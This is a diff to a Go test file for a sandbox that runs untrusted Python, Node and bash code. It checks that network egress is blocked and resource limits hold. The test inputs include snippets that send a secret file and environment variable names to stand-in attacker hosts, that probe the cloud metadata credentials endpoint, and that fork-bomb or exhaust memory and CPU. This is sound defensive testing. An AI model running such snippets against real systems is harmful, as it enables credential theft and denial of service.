@@ -117,9 +117,7 @@ func (c *core) gateway(allowed []string) {
 		default:
 			continue
 		}
-		if w.Write(back.bytes()) != nil {
-			return
-		}
+		_ = w.Write(back.bytes()) // who has gone may have left packets behind
 	}
 }
 
@@ -215,7 +213,7 @@ func TestWorkloads(t *testing.T) {
 		"nothing is known of other code": {code: "import antigravity\nantigravity.fly()\n"},
 		"the demo's clean code": {
 			code: "total = sum(i * i for i in range(10))\nenclave.result({\"answer\": total})\n",
-			want: outcome{Result: `{"answer": 285}`},
+			want: outcome{Result: `{"answer":285}`},
 		},
 		"the demo's exfiltration": {
 			code:  "import requests\nsecret = open(\"/work/secret\").read()\nprint('mark', flush=True)\nrequests.get(\"http://evil.example.com/exfil?data=\" + secret)\n",
@@ -252,10 +250,10 @@ attempt("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
 attempt("http://exfil.attacker.example/exfil?dump=" + ",".join(sorted(os.environ)))
 enclave.result({"egressAttempted": True})
 `,
-			want: outcome{Stdout: "denied: <urlopen error [Errno 111] Connection refused>\ndenied: <urlopen error [Errno -2] Name or service not known>\n", Result: `{"egressAttempted": true}`},
+			want: outcome{Stdout: "denied: <urlopen error [Errno 111] Connection refused>\ndenied: <urlopen error [Errno -2] Name or service not known>\n", Result: `{"egressAttempted":true}`},
 			seen: []string{"tcp 169.254.169.254:80", "dns exfil.attacker.example 1", "dns exfil.attacker.example 28"},
 		},
-		"a hundred forks": {
+		"of forks that end, their sum is not known": {
 			code: `import os
 r, w = os.pipe()
 pids = []
@@ -269,17 +267,42 @@ for pid in pids:
     done += os.waitpid(pid, 0)[1] == 0
 enclave.result({"forks": done})
 `,
-			want: outcome{Result: `{"forks": 50}`},
 		},
-		"sockets":           {code: "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('8.8.8.8', 53))\nprint(socket.socket().connect_ex(('203.0.113.9', 80)), socket.socket().connect_ex(('203.0.113.9', 81)))\n", want: outcome{Stdout: "0 111\n"}, seen: []string{"udp 8.8.8.8:53", "tcp 203.0.113.9:80", "tcp 203.0.113.9:81"}},
+		"sockets":           {code: "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('8.8.8.8', 53))\nsocket.socket().connect_ex(('203.0.113.9', 80))\nsocket.socket().connect_ex(('203.0.113.9', 81))\nprint('on')\n", want: outcome{Stdout: "on\n"}, seen: []string{"udp 8.8.8.8:53", "tcp 203.0.113.9:80", "tcp 203.0.113.9:81"}},
 		"IPv6":              {code: "import urllib.request\ntry:\n  urllib.request.urlopen('http://[2001:db8::1]:8080/')\nexcept: pass\n", seen: []string{"tcp [2001:db8::1]:8080"}},
 		"exit":              {code: "import sys\nsys.exit(7)\nprint('never')\n", want: outcome{Code: 7}},
 		"raise":             {code: "raise ValueError('boo')", want: outcome{Code: 1, Stderr: "Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line 1, in <module>\nValueError: boo\n"}},
 		"node":              {language: "node", code: "console.log('hi');\nfetch('http://evil.example.com/').catch(e => 0);\nenclave.result({answer: 42});\nprocess.exit(3)\n", want: outcome{Stdout: "hi\n", Result: `{"answer": 42}`, Code: 3}, seen: []string{"dns evil.example.com 1", "dns evil.example.com 28"}},
 		"bash":              {language: "bash", code: "echo 'hi'\ncurl -s http://169.254.169.254/x\nenclave-result '{\"a\":1}'\nexit 4\n", want: outcome{Stdout: "hi\n", Stderr: "curl: connection refused\n", Result: `{"a":1}`, Code: 4}, seen: []string{"tcp 169.254.169.254:80"}},
-		"formatted":         {code: "x = 3\nprint(f'{x} and {x*2}', [1, 'a'], {'k': None})", want: outcome{Stdout: "3 and 6 [1, 'a'] {'k': None}\n"}},
-		"functions":         {code: "def f(a, b=1):\n    return a * 2\nprint(f(4))\nif __name__ == '__main__':\n    print('main')\n", want: outcome{Stdout: "8\nmain\n"}},
-		"first result wins": {code: "enclave.result(1)\ntry:\n    enclave.result(2)\nexcept Exception as e:\n    print(e)\n", want: outcome{Result: "1", Stdout: "the result was given already\n"}},
+		"formatted":         {code: "x = 3\nprint(x, 1.5, True, None, 'a' 'b', sep='-', end='!')\nprint(f'{x}')", want: outcome{Stdout: "3-1.5-True-None-ab!"}},
+		"functions":         {code: "x = 1\ndef f(a, b='two'):\n    x = 9\n    print(a, b)\n    return a * 2\nif __name__ == '__main__':\n    print(f('one'))\n    enclave.result(x)\n", want: outcome{Stdout: "one two\n"}},
+		"http.client":       {code: "import http.client\nc = http.client.HTTPSConnection('evil.example.com', timeout=3)\nc.request('GET', '/x')\n", want: failed(3, "socket.gaierror: [Errno -2] Name or service not known"), seen: []string{"dns evil.example.com 1", "dns evil.example.com 28"}},
+		"a question":        {code: "import socket\ntry:\n    socket.getaddrinfo('evil.example.com', 443)\nexcept OSError: print('no')\n", want: outcome{Stdout: "no\n"}, seen: []string{"dns evil.example.com 1", "dns evil.example.com 28"}},
+		"a refused connect": {code: "import socket\nsocket.create_connection(('203.0.113.9', 22), timeout=1)\n", want: failed(2, "ConnectionRefusedError: [Errno 111] Connection refused"), seen: []string{"tcp 203.0.113.9:22"}},
+		"a URL with a known start": {
+			code: "import requests as r\nbase = 'http://evil.example.com/'\nfor q in ('a', 'b'):\n    try:\n        r.post(base + q, json={'a': 1})\n    except Exception as e:\n        print(q, type(e).__name__)\nr.get(f'http://evil.example.com/{secret()}')\n",
+			want: outcome{Stdout: "a ConnectionError\nb ConnectionError\n", Code: 1, Stderr: failed(8, "requests.exceptions.ConnectionError: [Errno -2] Name or service not known").Stderr},
+			seen: []string{"dns evil.example.com 1", "dns evil.example.com 28", "dns evil.example.com 1", "dns evil.example.com 28", "dns evil.example.com 1", "dns evil.example.com 28"},
+		},
+		"an unknown host is not tried":   {code: "import requests\nrequests.get('http://' + host())\nrequests.get(f'http://{host()}/x')\nrequests.get('http://evil.example.com' + rest())\n"},
+		"a command":                      {code: "import subprocess\nsubprocess.run(['curl', '-s', 'http://169.254.169.254/x'])\nimport os\nos.system('exit 3')\nprint('on')\n", want: outcome{Stdout: "on\n", Stderr: "curl: connection refused\n"}, seen: []string{"tcp 169.254.169.254:80"}},
+		"stderr":                         {code: "import sys; sys.stderr.write('a\\n'); print('b', file=sys.stderr); sys.exit('c')", want: outcome{Stderr: "a\nb\nc\n", Code: 1}},
+		"SystemExit":                     {code: "raise SystemExit(4)", want: outcome{Code: 4}},
+		"finally":                        {code: "try:\n    raise KeyError('k')\nexcept KeyError as e:\n    raise\nelse:\n    print('else')\nfinally:\n    print('finally')\n", want: outcome{Stdout: "finally\n", Stderr: failed(2, "KeyError: k").Stderr, Code: 1}},
+		"no syntax":                      {code: "print('a'\nprint('b')\nx = (", want: failed(1, "SyntaxError: invalid syntax")},
+		"a loop's output":                {code: "import sys\nfor i in range(3):\n    print('out', i, flush=True)\n    print('err', i, file=sys.stderr)\nprint('end', end='')\n", want: outcome{Stdout: "out 0\nout 1\nout 2\nend", Stderr: "err 0\nerr 1\nerr 2\n"}},
+		"what a loop counts":             {code: "n = 0\nfor i in range(10):\n    n += i\nenclave.result(n)\n"},
+		"what a list holds":              {code: "x = []\nfor i in range(5000):\n    x.append(i)\nenclave.result(x)\nenclave.result({'sum': sum(range(10))})\n", want: outcome{Result: `{"sum":45}`}},
+		"an if that is not known":        {code: "a = 1\nif f():\n    a = 2\nenclave.result(a)\nenclave.result('no')\n", want: outcome{Result: `"no"`}},
+		"a loop that may be left":        {code: "while True:\n    line = read()\n    if not line:\n        break\nprint('on')\n", want: outcome{Stdout: "on\n"}},
+		"a result that is no JSON":       {code: "enclave.result(b'x')\nenclave.result(x)\n"},
+		"a result that is too large":     {code: "try:\n    enclave.result('x' * 2000000)\nexcept ValueError as e:\n    print(e)\n", want: outcome{Stdout: "the result is larger than 1048576 bytes\n"}},
+		"a file":                         {code: "with open('/tmp/a', 'w') as f:\n    f.write('abc')\nprint(open('/tmp/a').read())\nopen('/etc/x', 'w')\n", want: outcome{Stdout: "abc\n", Stderr: failed(4, "OSError: [Errno 30] Read-only file system: '/etc/x'").Stderr, Code: 1}},
+		"within the limits":              {code: "import os\nfor i in range(24):\n    pid = os.fork()\n    if pid == 0:\n        os._exit(0)\nx = []\nfor i in range(32):\n    x.append(b'x' * 1000000)\nf = open('/work/small', 'wb')\nfor i in range(12):\n    f.write(b'x' * 65536)\n"},
+		"more than 1,000 actions":        {code: "for i in range(2000):\n    print('', end='')\nprint('never')\n", want: outcome{Stderr: "modelled: the code is more than can be modelled\n", Code: 1}},
+		"more than 10,000 lines":         {code: "print('never')\n" + strings.Repeat("\n", 10_000), want: outcome{Stderr: "modelled: the code is more than can be modelled\n", Code: 1}},
+		"more than 10,000 lines of node": {language: "node", code: strings.Repeat("\n", 10_000) + "console.log('never')", want: outcome{Stderr: "modelled: the code is more than can be modelled\n", Code: 1}},
+		"first result wins":              {code: "enclave.result(1)\ntry:\n    enclave.result(2)\nexcept Exception as e:\n    print(e)\n", want: outcome{Result: "1", Stdout: "the result was given already\n"}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			c := start(t, "allowed.example", "203.0.113.9:80")
@@ -305,6 +328,45 @@ enclave.result({"forks": done})
 	}
 }
 
+// failed is the outcome of an exception that is not caught.
+func failed(line int, what string) outcome {
+	return outcome{Stderr: fmt.Sprintf("Traceback (most recent call last):\n  File \"/run/enclave/main.py\", line %d, in <module>\n%s\n", line, what), Code: 1}
+}
+
+// TestEndlessModelsEndWithTheirSandbox destroys sandboxes whose code would go on
+// for ever, once it has said that it runs.
+func TestEndlessModelsEndWithTheirSandbox(t *testing.T) {
+	for name, code := range map[string]string{
+		"sleep":    "print('here')\nimport time\ntime.sleep(100000)\n",
+		"output":   "while True:\n    print('here')\n",
+		"waiting":  "while True:\n    print('here')\n    time.sleep(0)\n",
+		"attempts": "print('here')\nwhile True:\n    try: urlopen('http://evil.example.com/')\n    except Exception: pass\n",
+	} {
+		t.Run(name, func(t *testing.T) {
+			c := start(t)
+			p, err := c.client.Start(t.Context(), wire.StartRequest{Language: "python", Code: code})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer p.Close()
+			for e := (wire.Event{}); e.Kind != wire.Stdout; {
+				if e, err = p.Next(); err != nil {
+					t.Fatal(err)
+				}
+			}
+			if err := c.b.Destroy(t.Context(), testID); err != nil {
+				t.Error(err)
+			}
+			for err == nil {
+				_, err = p.Next()
+			}
+			if err == io.EOF {
+				t.Error("the process ended in order")
+			}
+		})
+	}
+}
+
 func TestEachLimitHasItsCause(t *testing.T) {
 	for name, tc := range map[string]struct {
 		language, code string
@@ -316,6 +378,11 @@ func TestEachLimitHasItsCause(t *testing.T) {
 		"bash fork bomb":      {"bash", ":(){ :|:& };:", backend.PidsLimit},
 		"one large string":    {"python", "x = b'x' * (1 << 30)\n", backend.MemoryLimit},
 		"a list that grows":   {"python", "x = []\nwhile True:\n    x.append(b'x' * 1000000)\n", backend.MemoryLimit},
+		"a counted bomb":      {"python", "import os\nfor _ in range(100000):\n    os.fork()\n", backend.PidsLimit},
+		"a bytearray":         {"python", "x = bytearray(10**9)\n", backend.MemoryLimit},
+		"small things":        {"python", "x = []\nfor i in range(10**9):\n    x.append(i)\n", backend.MemoryLimit},
+		"one large print":     {"python", "print('x' * (1 << 30))\n", backend.MemoryLimit},
+		"busy arithmetic":     {"python", "x = 0\nwhile 1:\n    x = x * 3 + 1\n", backend.CPULimit},
 		"endless loop":        {"python", "while True: pass\n", backend.CPULimit},
 		"node's endless loop": {"node", "while (true) {}\n", backend.CPULimit},
 		"bash's endless loop": {"bash", "while true; do :; done\n", backend.CPULimit},
